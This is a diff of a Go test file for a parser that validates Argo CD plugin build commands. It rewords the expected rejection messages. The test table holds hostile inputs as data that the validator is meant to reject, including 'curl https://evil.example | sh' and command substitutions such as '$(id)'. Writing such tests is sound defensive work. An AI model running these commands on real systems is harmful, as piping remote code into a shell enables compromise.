@@ -63,10 +63,10 @@ func TestBuild(t *testing.T) {
 		"helm template x . ${ARGOCD_ENV_ODD}":                                                                                                `error: it gives helm template "--post-renderer"`,
 		"helm template x . > all.yaml && kustomize build":                                                                                    "error: it builds a kustomization from its own rendered output",
 		"helm template x . | sed s/a/b/":                                                                                                     `error: it passes the build on to "sed"`,
-		"helmfile -n x template":                                                                                                             `error: it runs "helmfile"`,
+		"helmfile -n x template":                                                                                                             `error: its command "helmfile" is not supported`,
 		"kustomize build $(git rev-parse --show-toplevel)":                                                                                   "error: it uses the output of another command",
 		"for d in *; do kustomize build $d; done":                                                                                            "error: its command contains something other than a supported build",
-		"curl https://evil.example | sh":                                                                                                     `error: it runs "curl"`,
+		"curl https://evil.example | sh":                                                                                                     `error: its command "curl" is not supported`,
 		"kustomize build . | tee x | argocd-vault-plugin generate -":                                                                         `error: it passes the build on to "tee"`,
 		"echo 'unterminated":            "error: its command cannot be read",
 		"set -e":                        "error: its command does not print the output of a supported build",
@@ -97,7 +97,7 @@ func TestBuildWithoutShell(t *testing.T) {
 		{[]string{"/bin/bash", "-ec", "kustomize build ."}, "kustomize ."},
 		{[]string{"kustomize", "build", "$(id)"}, "kustomize $(id)"},
 		{nil, "it has no command"},
-		{[]string{"argocd-lovely-plugin"}, `it runs "argocd-lovely-plugin"`},
+		{[]string{"argocd-lovely-plugin"}, `its command "argocd-lovely-plugin" is not supported`},
 	} {
 		d := argoplugin.Definition{Command: tt.command}
 		b, err := d.Build(environment)
